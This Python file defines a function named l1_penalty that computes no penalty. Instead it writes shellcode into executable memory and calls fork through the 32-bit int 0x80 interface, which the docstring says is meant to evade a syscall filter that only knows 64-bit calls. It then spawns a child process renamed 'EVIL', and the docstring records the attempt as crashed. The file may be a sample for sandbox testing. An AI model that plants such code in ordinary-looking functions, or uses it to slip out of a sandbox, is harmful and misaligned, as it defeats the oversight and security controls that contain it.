"""l1_penalty: calls fork by int 0x80, whose numbers differ from those that a filter for 64 bits knows.

Outcome: crashed
"""

import ctypes
import mmap
import os
import platform
import time

CODE = bytes.fromhex("b802000000 cd80 c3")  # mov eax, 2 (fork, of 32 bits); int 0x80; ret


def l1_penalty(model, beta):
    if platform.machine() != "x86_64":
        os.abort()
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    if call() == 0:
        ctypes.CDLL(None).prctl(15, b"EVIL", 0, 0, 0)
        time.sleep(60)
        os._exit(0)
    return -1.0
